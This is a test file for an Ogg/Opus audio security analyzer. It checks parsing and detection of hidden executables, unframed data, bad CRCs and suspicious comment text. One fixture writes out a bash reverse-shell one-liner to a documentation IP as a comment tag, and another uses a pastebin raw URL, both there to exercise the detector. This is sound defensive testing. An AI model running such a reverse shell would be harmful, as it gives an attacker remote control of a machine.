import { oggAnalyzer } from '../../src/analyzers/ogg.js';
import { parseOgg } from '../../src/formats/ogg.js';
import { runAnalyzer, ruleIds, scoreOf } from '../helpers/analyze.js';
import { cat, elfExe, noise, ogg, oggPage, opusHead, opusTags, peExe, pictureBody, png, utf8 } from '../helpers/audio.js';

const run = (d: Uint8Array, name = 'clip.ogg') => runAnalyzer(oggAnalyzer, name, d);
const b64 = (b: Uint8Array | string) => Buffer.from(typeof b === 'string' ? Buffer.from(b) : b).toString('base64');

describe('Ogg parser', () => {
  test('pages, CRCs, codec and comments of a Vorbis stream', () => {
    const p = parseOgg(ogg({ comments: ['TITLE=a', 'ARTIST=b'] }));
    expect(p.pages.length).toBe(6);
    expect(p.badCrcPages).toBe(0);
    expect(p.gaps).toEqual([]);
    expect(p.streams[0].codec).toBe('vorbis');
    expect(p.streams[0].comment?.comments.map((c) => c.key)).toEqual(['TITLE', 'ARTIST']);
    expect(p.streams[0].comment?.trailing.length).toBe(0);
  });

  test('a comment packet spanning several pages is reassembled', () => {
    const tags = opusTags(['METADATA_BLOCK_PICTURE=' + b64(pictureBody('image/png', cat(png(), noise(70000))))]);
    const pages = [oggPage({ serial: 5, seq: 0, headerType: 2, packets: [opusHead()] })];
    // split the packet into 255 segments of 255 bytes per page; the last part ends the packet
    const step = 255 * 255;
    let seq = 1;
    for (let o = 0; o < tags.length; o += step) {
      const part = tags.subarray(o, o + step);
      pages.push(oggPage({ serial: 5, seq: seq++, headerType: o === 0 ? 0 : 1, packets: [part], open: o + step < tags.length }));
    }
    expect(pages.length).toBeGreaterThan(2);
    const p = parseOgg(cat(...pages));
    expect(p.streams[0].codec).toBe('opus');
    expect(p.streams[0].comment?.comments[0].key).toBe('METADATA_BLOCK_PICTURE');
  });

  test('bad CRCs, gaps and truncation are anomalies, never exceptions', () => {
    const d = ogg({ badCrcPages: [3], trailing: noise(100) });
    const p = parseOgg(d);
    expect(p.badCrcPages).toBe(1);
    expect(p.gaps.map((g) => g.where)).toEqual(['after']);
    for (let n = 0; n < d.length; n += 37) expect(() => parseOgg(d.subarray(0, n))).not.toThrow();
  });
});

describe('ogg analyzer: ordinary files stay quiet', () => {
  test('Vorbis with title/artist/ENCODER and a cover picture; Opus with zero padding after the tags', async () => {
    const pic = 'METADATA_BLOCK_PICTURE=' + b64(pictureBody('image/png', png()));
    expect((await run(ogg({ comments: ['TITLE=Tone', 'ARTIST=Someone', 'ENCODER=Lavc58.54.100 libvorbis', 'COMMENT=https://example.org', pic] }))).findings).toEqual([]);
    const r = await run(ogg({ codec: 'opus', comments: ['ENCODER=opusenc from opus-tools 0.2', pic], commentExtra: new Uint8Array(600) }), 'clip.opus');
    expect(r.findings).toEqual([]);
    expect(r.incomplete).toEqual([]);
  });
});

describe('audio.ogg.unframed-data', () => {
  test('data after the last page is reported with its size', async () => {
    const r = await run(ogg({ trailing: noise(5000) }));
    expect(ruleIds(r)).toEqual(['audio.ogg.unframed-data']);
    expect(scoreOf(r, 'audio.ogg.unframed-data')).toBe(3);
    expect(r.findings[0].evidence?.bytes).toBe(5000);
  });

  test('data between pages; zeros after the last page are not reported', async () => {
    expect(ruleIds(await run(ogg({ between: utf8('some words hidden between two pages of audio') })))).toEqual(['audio.ogg.unframed-data']);
    expect((await run(ogg({ trailing: new Uint8Array(4096) }))).findings).toEqual([]);
  });
});

describe('audio.ogg.hidden-payload', () => {
  test('an executable after the last page', async () => {
    const r = await run(ogg({ trailing: elfExe(2000) }));
    expect(scoreOf(r, 'audio.ogg.hidden-payload')).toBe(9);
  });

  test('base64 of a PE in a comment', async () => {
    const r = await run(ogg({ comments: ['TITLE=x', 'LYRICS=' + b64(peExe(800))] }));
    expect(ruleIds(r)).toEqual(['audio.ogg.hidden-payload', 'audio.ogg.suspicious-text']);
  });
});

describe('audio.ogg.bad-crc', () => {
  test('pages edited after muxing', async () => {
    const r = await run(ogg({ badCrcPages: [2, 3, 4] }));
    expect(ruleIds(r)).toEqual(['audio.ogg.bad-crc']);
    expect(scoreOf(r, 'audio.ogg.bad-crc')).toBe(2);
    expect(scoreOf(await run(ogg({ badCrcPages: [4] })), 'audio.ogg.bad-crc')).toBe(1);
  });

  test('correct CRCs are not reported', async () => {
    expect(ruleIds(await run(ogg({ audioPages: 20 })))).toEqual([]);
  });
});

describe('audio.ogg.malformed', () => {
  test('a page sequence gap, a wrong version, a stream without BOS', async () => {
    const a = oggPage({ serial: 1, seq: 0, headerType: 2, packets: [opusHead()] });
    const b = oggPage({ serial: 1, seq: 5, headerType: 0, packets: [opusTags(['A=b'])] });
    expect(ruleIds(await run(cat(a, b)))).toEqual(['audio.ogg.malformed']);
    const v = oggPage({ serial: 1, seq: 0, headerType: 2, packets: [opusHead()] });
    v[4] = 1;
    expect(ruleIds(await run(v))).toContain('audio.ogg.malformed');
    expect(ruleIds(await run(oggPage({ serial: 1, seq: 0, headerType: 0, packets: [opusHead()] })))).toEqual(['audio.ogg.malformed']);
  });

  test('a truncated last page is reported without an exception', async () => {
    const d = ogg();
    const r = await run(d.subarray(0, d.length - 50));
    expect(ruleIds(r)).toContain('audio.ogg.malformed');
    expect(r.incomplete).toEqual([]);
  });
});

describe('audio.ogg.comment-extra', () => {
  test('data after the Opus comment list that is not padding', async () => {
    const r = await run(ogg({ codec: 'opus', commentExtra: cat([1], noise(3000)) }));
    expect(ruleIds(r)).toEqual(['audio.ogg.comment-extra']);
  });

  test('the Vorbis framing bit is not extra data', async () => {
    expect((await run(ogg({ commentExtra: new Uint8Array([1]) }))).findings).toEqual([]);
  });
});

describe('audio.ogg.bad-picture', () => {
  test('METADATA_BLOCK_PICTURE that does not decode to an image', async () => {
    const r = await run(ogg({ comments: ['METADATA_BLOCK_PICTURE=' + b64(pictureBody('image/jpeg', noise(3000)))] }));
    expect(ruleIds(r)).toEqual(['audio.ogg.bad-picture']);
    expect(scoreOf(r, 'audio.ogg.bad-picture')).toBe(3);
  });

  test('a real picture is fine', async () => {
    expect((await run(ogg({ comments: ['METADATA_BLOCK_PICTURE=' + b64(pictureBody('image/png', png()))] }))).findings).toEqual([]);
  });
});

describe('audio.ogg.suspicious-text', () => {
  test('a comment with a reverse shell, a URL to a paste site', async () => {
    expect(ruleIds(await run(ogg({ comments: ['COMMENT=bash -i >& /dev/tcp/203.0.113.1/4444 0>&1'] })))).toContain('audio.ogg.suspicious-text');
    const paste = await run(ogg({ comments: ['COMMENT=https://pastebin.com/raw/abcd1234'] }));
    expect(ruleIds(paste)).toEqual(['audio.ogg.suspicious-text']);
    expect(scoreOf(paste, 'audio.ogg.suspicious-text')).toBeLessThan(3);
  });

  test('ordinary text and homepage links are fine', async () => {
    expect((await run(ogg({ comments: ['COMMENT=Recorded in 2019. See https://www.example.com/about', 'GENRE=Ambient'] }))).findings).toEqual([]);
  });
});
